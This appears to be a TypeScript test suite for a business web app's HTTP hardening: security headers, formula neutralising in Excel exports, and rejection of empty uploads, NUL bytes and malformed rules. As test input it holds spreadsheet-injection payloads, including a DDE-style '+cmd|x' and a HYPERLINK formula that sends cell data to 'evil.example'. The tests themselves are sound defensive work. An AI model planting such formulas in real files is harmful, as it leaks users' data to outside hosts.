import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { BAD_FILE_NAME_MESSAGE, EMPTY_FILE_MESSAGE } from '../http/uploads';
import { inertCellValue } from '../modules/shared/excel';
import { openBusinessTestbed, type BusinessTestbed } from './support/business';
import { testBackends } from './support/database';
import { startTestServer, type TestServer } from './support/server';

describe('export cells that a spreadsheet would evaluate', () => {
  it('start with an apostrophe when they begin with = + - @, a tab or CR; plain numbers and other text stay', () => {
    for (const formula of ['=1+1', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x")']) {
      expect(inertCellValue(formula)).toBe(`'${formula}`);
    }
    for (const kept of ['-12.50', '+86', '张三', 'a=b', '', 12, -3, null]) {
      expect(inertCellValue(kept)).toBe(kept);
    }
  });
});

describe.each(testBackends())('HTTP hardening on %s', (backend) => {
  let bed: BusinessTestbed;
  let site: TestServer;
  let siteDir: string;

  beforeAll(async () => {
    bed = await openBusinessTestbed(backend);
    siteDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hardening-site-'));
    fs.writeFileSync(path.join(siteDir, 'index.html'), '<!doctype html><title>t</title>');
    fs.writeFileSync(path.join(siteDir, 'app.js'), 'console.log(1)');
    fs.writeFileSync(
      path.join(siteDir, 'site-config.json'),
      JSON.stringify({ microFrontendUrl: 'http://127.0.0.1:7101/' }),
    );
    site = await startTestServer({ database: bed.testDatabase.database, staticDir: siteDir });
    // The business demo takes a while to seed on a busy machine.
  }, 300_000);
  afterAll(async () => {
    await site.close();
    await bed.close();
    fs.rmSync(siteDir, { recursive: true, force: true });
  });

  describe('security headers', () => {
    it('come with every answer: the API, a page, a static file and a 404', async () => {
      for (const url of ['/api/sys/getEncryptedString', '/dashboard/analysis', '/app.js', '/api/nowhere']) {
        const response = await fetch(`${site.baseUrl}${url}`);
        const csp = response.headers.get('content-security-policy') ?? '';
        expect([url, response.headers.get('x-content-type-options')]).toEqual([url, 'nosniff']);
        expect(response.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
        expect(response.headers.get('x-frame-options')).toBe('SAMEORIGIN');
        expect(csp).toContain("frame-ancestors 'self'");
        expect(csp).toContain("default-src 'self'");
        expect(csp).toContain("object-src 'none'");
        // Scripts only from this site (no inline script, no eval); antd's run-time <style> elements allowed.
        expect(csp).toMatch(/script-src 'self'(;|$)/);
        expect(csp).toContain("style-src 'self' 'unsafe-inline'");
        // The micro front end of site-config.json may be framed and probed.
        expect(csp).toContain("frame-src 'self' http://127.0.0.1:7101");
        expect(csp).toContain("connect-src 'self' http://127.0.0.1:7101");
      }
    });
  });

  describe('exports', () => {
    it('write a customer name that starts a formula as text', async () => {
      const { db } = bed.testDatabase.database;
      const target = await db
        .selectFrom('customers')
        .select(['id', 'customer_code'])
        .where('tenant_id', '=', 'A01')
        .orderBy('customer_code')
        .executeTakeFirstOrThrow();
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
      await db.updateTable('customers').set({ name: formula }).where('id', '=', target.id).execute();
      const { status, body } = await bed.download(
        'admin',
        `/eCustomer/exportXls?customerCode=${target.customer_code}`,
      );
      expect(status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(body);
      const sheet = workbook.worksheets[0];
      const names: unknown[] = [];
      sheet.eachRow((row, rowNo) => {
        if (rowNo > 1 && row.getCell(1).value === target.customer_code) names.push(row.getCell(2).value);
      });
      expect(names).toEqual([`'${formula}`]);
    });
  });

  describe('bad input answers 400 with a clear message, never 500', () => {
    it('refuses a zero-byte upload', async () => {
      const { status, body } = await bed.upload(
        'admin',
        '/sys/file/uploadImage',
        'empty.png',
        new ArrayBuffer(0),
      );
      expect(status).toBe(200);
      expect(body).toMatchObject({ success: false, code: 400, message: EMPTY_FILE_MESSAGE });
    });

    it('refuses a file name with a NUL byte, on images and imports alike', async () => {
      const png = Buffer.from(
        'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
        'base64',
      );
      const bytes = png.buffer.slice(png.byteOffset, png.byteOffset + png.byteLength) as ArrayBuffer;
      for (const [url, name] of [
        ['/sys/file/uploadImage', 'a\u0000.png'],
        ['/eCustomer/importExcel', 'b\u0000.xlsx'],
      ]) {
        const { status, body } = await bed.upload('admin', url, name, bytes);
        expect([url, status]).toEqual([url, 200]);
        expect(body).toMatchObject({ success: false, code: 400, message: BAD_FILE_NAME_MESSAGE });
      }
    });

    it('refuses a NUL character in any JSON field or query parameter, naming the field', async () => {
      const added = await bed.post('admin', '/eCustLabel/add', {
        code: 'NUL-1',
        name: 'a\u0000b',
        labelType: 'MANUAL',
      });
      expect(added).toEqual({
        status: 400,
        body: expect.objectContaining({ success: false, code: 400, message: '参数 name 不能包含空字符' }),
      });
      const listed = await bed.get('admin', '/eCustomer/list?name=a%00b');
      expect(listed.status).toBe(400);
      expect(listed.body.message).toBe('参数 name 不能包含空字符');
    });

    it('refuses a label rule whose conditions are not objects with field, op and value', async () => {
      const rule = (conditions: unknown) => ({ conditions });
      for (const bad of [[null], ['x'], [{ field: 'level' }], [{ field: 'level', op: 'like', value: 'A' }]]) {
        const added = await bed.post('admin', '/eCustLabel/add', {
          code: 'RULE-NULL',
          name: '规则',
          labelType: 'RULE',
          rule: rule(bad),
        });
        expect([JSON.stringify(bad), added.status, added.body.code]).toEqual([JSON.stringify(bad), 400, 400]);
        expect(added.body.message).toMatch(/^参数 rule\.conditions\.0/);
        const preview = await bed.post('admin', '/eCustLabel/previewRule', { rule: rule(bad) });
        expect([JSON.stringify(bad), preview.status]).toEqual([JSON.stringify(bad), 400]);
      }
    });
  });
});
